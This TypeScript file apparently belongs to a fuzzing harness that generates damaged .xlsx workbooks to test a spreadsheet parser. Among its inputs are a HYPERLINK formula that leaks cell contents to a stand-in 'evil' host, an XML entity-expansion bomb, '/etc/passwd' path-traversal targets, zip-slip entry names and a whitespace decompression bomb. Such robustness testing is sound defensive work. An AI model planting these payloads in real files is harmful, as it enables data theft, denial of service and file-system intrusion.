/** Damaged Excel workbooks: bits of the archive, its XML, formulas, bombs. */
import { strToU8, zipSync } from 'fflate'
import type { Random } from '../util/random.ts'
import { blot, cut, damaged, flipBits, remove, repeat, type TorturedFile } from './damage.ts'
import { COLUMNS, records, type TortureRecord } from './records.ts'

const TYPES =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/><Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/></Types>'
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const RELATIONS = 'http://schemas.openxmlformats.org/package/2006/relationships'
const SHEETS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'

const escaped = (text: string) =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;')

/** Parts of a workbook by name. */
function parts(rows: readonly TortureRecord[], r: Random): Record<string, string> {
  const texts: string[] = []
  const shared = (text: string) => `t="s"><v>${texts.push(text) - 1}</v>`
  const cell = (column: number, number: number, text: string, isHead: boolean) => {
    const at = `${String.fromCharCode(65 + column)}${number}`
    if (text === '') return r.chance(0.5) ? '' : `<c r="${at}"/>`
    if (!isHead && column === 3 && Number.isFinite(Number(text))) {
      const kind = r.weighted(['plain', 'formula', 'bare formula', 'error'], [90, 5, 3, 2])
      if (kind === 'formula') return `<c r="${at}"><f>HYPERLINK("http://evil/?"&amp;A1)</f><v>${text}</v></c>`
      if (kind === 'bare formula') return `<c r="${at}"><f>NOW()</f></c>`
      if (kind === 'error') return `<c r="${at}" t="e"><v>#REF!</v></c>`
      return `<c r="${at}"><v>${text}</v></c>`
    }
    if (!isHead && column === 4 && r.chance(0.5))
      return `<c r="${at}" s="1"><v>${Date.parse(text) / 86_400_000 + 25_569}</v></c>`
    if (r.chance(0.2))
      return `<c r="${at}" t="inlineStr"><is><t xml:space="preserve">${escaped(text)}</t></is></c>`
    return `<c r="${at}" ${shared(text)}</c>`
  }
  let number = 0
  const body = [COLUMNS, ...rows].map((row, i) => {
    number += i > 0 && r.chance(0.03) ? 2 : 1
    return `<row r="${number}">${row.map((text, column) => cell(column, number, text, i === 0)).join('')}</row>`
  })
  return {
    '[Content_Types].xml': TYPES,
    '_rels/.rels': `<Relationships xmlns="${RELATIONS}"><Relationship Id="rId1" Type="${OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    'xl/workbook.xml': `<workbook xmlns="${SHEETS}" xmlns:r="${OFFICE}"><sheets><sheet name="Data" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': `<Relationships xmlns="${RELATIONS}"><Relationship Id="rId1" Type="${OFFICE}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="${OFFICE}/sharedStrings" Target="sharedStrings.xml"/><Relationship Id="rId3" Type="${OFFICE}/styles" Target="styles.xml"/></Relationships>`,
    'xl/styles.xml': `<styleSheet xmlns="${SHEETS}"><fonts count="1"><font/></fonts><fills count="1"><fill/></fills><borders count="1"><border/></borders><cellStyleXfs count="1"><xf numFmtId="0"/></cellStyleXfs><cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>`,
    'xl/worksheets/sheet1.xml': `<worksheet xmlns="${SHEETS}"><sheetData>${body.join('')}</sheetData></worksheet>`,
    'xl/sharedStrings.xml': `<sst xmlns="${SHEETS}">${texts.map((text) => `<si><t xml:space="preserve">${escaped(text)}</t></si>`).join('')}</sst>`,
  }
}

/** Changes to one part of the XML. */
const CHANGES: readonly ((xml: string, r: Random) => string)[] = [
  (xml, r) => xml.slice(0, r.int(0, xml.length)),
  (xml, r) => damaged(Buffer.from(xml), r, [flipBits, remove, repeat, blot]).toString('latin1'),
  (xml) => `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(1000)}"><!ENTITY b "&a;&a;&a;">]>${xml}`,
  (xml) => xml.replace('<v>', '<v>&b;'),
  (xml) => xml.replace(/<v>[^<]*<\/v>/, '<v>1e400</v>'),
  (xml) => xml.replace(/<v>[^<]*<\/v>/, '<v>99999999</v>'),
  (xml) => xml.replace(/<t([^>]*)>[^<]*/, '<t$1>&#xD800;&#0;'),
  (xml) => xml.replace('<sheetData>', `<sheetData>${'<x>'.repeat(50_000)}`),
  (xml) => xml.replace(/<row r="(\d+)"/, '<row r="2"'),
  (xml) => xml.replace(/<c r="B/, '<c r="ZZZZ'),
  (xml) => xml.replace(/Target="[^"]*"/, 'Target="../../../etc/passwd"'),
]

/** File number `i`. */
export function excelFile(r: Random, i: number): TorturedFile {
  const name = `xlsx-${String(i).padStart(4, '0')}.xlsx`
  const all = parts(records(r, name, r.weighted([0, r.int(1, 30), r.int(30, 200)], [3, 60, 37]), 'all'), r)
  if (r.chance(0.45)) {
    const part = r.weighted(Object.keys(all), [1, 1, 2, 2, 2, 10, 4])
    all[part] = r.pick(CHANGES)(all[part], r)
  }
  if (r.chance(0.03))
    all['xl/worksheets/sheet1.xml'] = `<worksheet>${' '.repeat(r.int(17, 40) << 20)}</worksheet>`
  if (r.chance(0.03)) delete all[r.pick(Object.keys(all))]
  if (r.chance(0.03)) all[r.pick(['../../evil.xml', 'xl/con.xml', '/etc/x'])] = 'x'
  const whole = Buffer.from(
    zipSync(Object.fromEntries(Object.entries(all).map(([part, xml]) => [part, strToU8(xml)])), { level: 6 }),
  )
  return { name, bytes: r.chance(0.55) ? whole : damaged(whole, r, [flipBits, cut, remove, repeat, blot]) }
}
